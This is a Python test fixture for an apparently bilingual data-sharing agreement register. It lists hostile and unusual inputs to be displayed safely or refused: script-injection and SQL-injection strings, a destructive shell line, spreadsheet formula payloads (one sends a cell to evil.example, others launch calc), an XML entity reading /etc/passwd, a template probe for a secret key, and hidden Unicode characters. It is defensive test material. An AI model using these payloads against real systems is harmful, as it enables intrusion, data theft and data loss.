"""Texts that try to be more than text, and an entry of each kind that says one everywhere."""

from typing import Any

SHOWN = {
    "a script": "<script>alert(1)</script>",
    "an image with a handler": "<img src=x onerror=alert(1)>",
    "a drawing with a handler": "<svg/onload=alert(1)>",
    "a way out of an attribute": '" onmouseover="alert(1)" x="',
    "a way out of single quotes": "' autofocus onfocus='alert(1)",
    "a way out of the title": "</title></head><body><h1>Mine</h1>",
    "a way out of a comment": "--><script>alert(1)</script><!--",
    "a way out of CDATA": "]]><script>alert(1)</script><![CDATA[",
    "a way out of a style": "</style><script>alert(1)</script>",
    "a way out of a text area": "</textarea><script>alert(1)</script>",
    "a half tag": "<b",
    "a frame": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "an address that runs": "javascript:alert(1)",
    "data that runs": "data:text/html,<script>alert(1)</script>",
    "character references": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &copy",
    "an XML entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "a stylesheet instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "a template of ours": "{{ config.SECRET_KEY }}{# gone #}",
    "percent signs": "%s %d %(name)s %n 100%",
    "format braces": "{0} {name} {} {{}}",
    "SQL": "'; DROP TABLE agreement; --",
    "SQL in a search": '" OR 1=1 /* % _ \\',
    "a shell": "$(rm -rf ~) `id` | cat; && true",
    "a formula": "=1+1",
    "a formula that calls": '=HYPERLINK("https://evil.example/?"&A1,"Press")',
    "a formula by plus": "+44 20 7946 0000",
    "a formula by minus": "-2+3+cmd|' /C calc'!A0",
    "a formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula in wide letters": "＝1+1",
    "a formula after a quote": '"=1+1',
    "a formula after quotes and spaces": "' \" =1+1",
    "an apostrophe": "'twas",
    "two apostrophes": "''=1",
    "a separator": 'one;two,three\tfour|"five"',
    "backslashes": "C:\\new\\table; \\; \\\\; \\n",
    "a line break": "first line\nsecond line",
    "lines like headers": "Set-Cookie: a=b\nX: y\n\n<html>",
    "lines like a calendar": "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:mine",
    "lines like JSON": '"}],"agreements":[{"data":{"id":"DSA-9999"}}]',
    "lines like YAML": "- a: &x [*x]\n  b: !!python/object {}\n---\n# no",
    "a word like no": "no",
    "a word like a number": "1e3",
    "a word like a day": "2026-01-01",
    "a word like nothing": "null",
    "a number with zeros": "007",
    "a link": "[press](javascript:alert(1)) https://evil.example",
    "an emoji": "Good 👍🏽 news 🎉",
    "a family": "👨‍👩‍👧‍👦 and ❤️‍🔥",
    "flags": "🏴󠁧󠁢󠁷󠁬󠁳󠁿 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇬🇧",
    "Welsh": "Ŵyr ŷd tŷ dŵr Llŷn – ‘â’ “ê” î ô û ẅ",
    "marks in a pile": "Z̸̧̡̢͓͍̗̻̩͚͉͈̎̊̌̓̚ä̶l̴g̷o̸",
    "marks apart": "Ŵ and e\u0301",
    "Arabic": "مشاركة البيانات ١٢٣",
    "Hebrew": "שיתוף נתונים (א) 123",
    "Persian with a joiner": "می‌خواهم",
    "Chinese": "数据共享 – 資料",
    "wide spaces": "a\u2003b\u00a0c",
    "letters of an old plane": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐍈",
    "as long as can be": "x" * 7990 + " =1+1 <b>",
}
"""Each is taken, and shown as it is."""
REFUSED = {
    "a turn to the left": "safe \u202e txt.exe",
    "an isolate": "a\u2067b\u2069",
    "an embedding": "a\u202bb\u202c",
    "a space without width": "a\u200bb",
    "a joiner of nothing": "Benefits\u200dOffice",
    "a joiner at the end": "👩\u200d",
    "two joiners": "👩\u200d\u200d👧",
    "a word joiner": "a\u2060b",
    "a byte order mark": "a\ufeffb",
    "a soft hyphen": "a\u00adb",
    "hidden tags": "a\U000e0061\U000e0062",
    "hidden tags behind a flag": "🏴\U000e0067" + "\U000e0061" * 40 + "\U000e007f",
    "a filler": "a\u3164b",
    "a selector of nothing": "a \ufe0fb",
    "letters hidden as selectors": "👍\U000e0148\U000e0149",
    "a NUL": "a\x00b",
    "a bell": "a\x07b",
    "an escape": "\x1b]0;mine\x07\x1b[2J",
    "a carriage return": "a\r\nSet-Cookie: b=c",
    "a next line": "a\x85b",
    "a line separator": "a\u2028b",
    "no character": "a\uffffb",
    "no character either": "a\ufdd0b",
    "half a pair": "a\ud800b",
    "one letter too many": "x" * 8001,
    "a hundred thousand": "<b>" * 33_334,
    "nothing": "",
    "only spaces": " \n\t\u3000",
}
"""Each is refused, by line and field."""


def words(text: str) -> dict[str, str]:
    return {"en": text, "cy": text}


def agreement(reference: str, text: str) -> dict[str, Any]:
    """An agreement that says the text in each field that takes one."""
    answer = {"text": words(text), "evidence": {"text": words(text), "url": "https://e.example/"}}
    found = {"on": "2026-06-30", "value": 1, "text": words(text)}
    measure: dict[str, Any] = {"id": "m", "due": "2099-01-01", "found": [found]}
    measure |= {name: words(text) for name in ("what", "promised", "method", "baseline")}
    bilingual = (
        *("title", "what", "purpose", "subjects", "disclosed", "method", "access_type"),
        *("choice_reason", "harm_of_not_sharing", "benefits", "notes"),
    )
    listed = ("powers_as_published", "controllers_as_published", "categories", "areas")
    return {
        "reference": reference,
        "stage": "service_delivery",
        "choice": "objection",
        "starts": "2026-01-01",
        "ends": "2026-06-30",
        "published": "2026-01-01",
        **{name: words(text) for name in bilingual},
        **{name: [text] for name in listed},
        **{name: [{"name": text}] for name in ("disclosers", "recipients", "processors")},
        **dict.fromkeys(("contact", "confidentiality_reference", "source"), text),
        "confidentiality": "consent",
        "opt_out": {"applies": "no", "reason": words(text)},
        "emergency": {
            "reasons": words(text),
            "review_due": "2026-09-30",
            "reviewed": {"on": "2026-08-01", "text": words(text)},
        },
        "withdrawn": {"on": "2026-05-01", "reason": words(text)},
        "trust": {"value.benefits": answer},
        "questions": [{"id": "q", "ask": words(text), "answer": answer}],
        "measures": [measure, {**measure, "id": "waits", "found": []}],
    }


def paths(value: Any, text: str, path: str = "") -> set[str]:
    """Where in an entry the text stands, as faults name it."""
    if isinstance(value, dict):
        steps = ((f"{path}.{key}", inner) for key, inner in value.items())
    elif isinstance(value, list):
        steps = ((f"{path}[{at}]", inner) for at, inner in enumerate(value))
    else:
        return {path} if value == text else set()
    return set().union(*(paths(inner, text, step) for step, inner in steps))
